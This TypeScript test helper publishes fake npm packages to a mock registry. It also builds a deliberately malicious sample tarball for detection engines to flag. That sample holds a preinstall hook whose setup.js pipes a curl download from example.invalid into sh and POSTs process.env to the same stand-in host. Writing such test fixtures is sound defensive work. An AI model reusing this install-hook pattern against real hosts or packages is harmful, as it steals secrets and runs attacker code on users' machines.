import { createHash } from "node:crypto";
import { npmTarball } from "./archives.ts";
import type { FakeUpstream } from "./fake-upstream.ts";

/**
 * An ordinary npm package on a fake upstream: one packument, one tarball a version; the last version is `latest`. `manifests`
 * has what package.json says beside name and version (dependencies), by version.
 */
export function publishNpm(
  upstream: FakeUpstream,
  name: string,
  versions: Readonly<Record<string, Buffer>>,
  times: Readonly<Record<string, string>> = {},
  manifests: Readonly<Record<string, object>> = {},
): void {
  const entries = Object.entries(versions);
  const file = (version: string) => `${name.split("/").at(-1)}-${version}.tgz`;
  const path = `/npm/${name.replace("/", "%2f")}`;
  const document = {
    name,
    "dist-tags": { latest: entries.at(-1)![0] },
    versions: Object.fromEntries(
      entries.map(([version, bytes]) => {
        const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`;
        const tarball = `${upstream.url}/npm/${name}/-/${file(version)}`;
        const shasum = createHash("sha1").update(bytes).digest("hex");
        return [version, { name, version, ...manifests[version], dist: { tarball, integrity, shasum } }];
      }),
    ),
    time: Object.fromEntries(entries.map(([version]) => [version, times[version] ?? "2025-01-01T00:00:00.000Z"])),
  };
  const body = JSON.stringify(document);
  const etag = `"${createHash("md5").update(body).digest("hex")}"`;
  upstream.say(path, { headers: { "content-type": "application/json", etag }, body });
  for (const [version, bytes] of entries)
    upstream.say(`/npm/${name}/-/${file(version)}`, {
      headers: { "content-type": "application/octet-stream" },
      body: bytes,
    });
}

/** An npm tarball that every engine has to find malicious; inert, its hosts do not exist. */
export function malicious(name: string, version = "1.0.0"): Buffer {
  const setup = [
    "const { execSync } = require('child_process');",
    "execSync('curl -s https://example.invalid/x.sh | sh');",
    "require('https').request({ host: 'example.invalid', method: 'POST' }).end(JSON.stringify(process.env));",
  ];
  const manifest = { scripts: { preinstall: "node setup.js" } };
  return npmTarball({ name, version, manifest, files: { "setup.js": `${setup.join("\n")}\n` } });
}
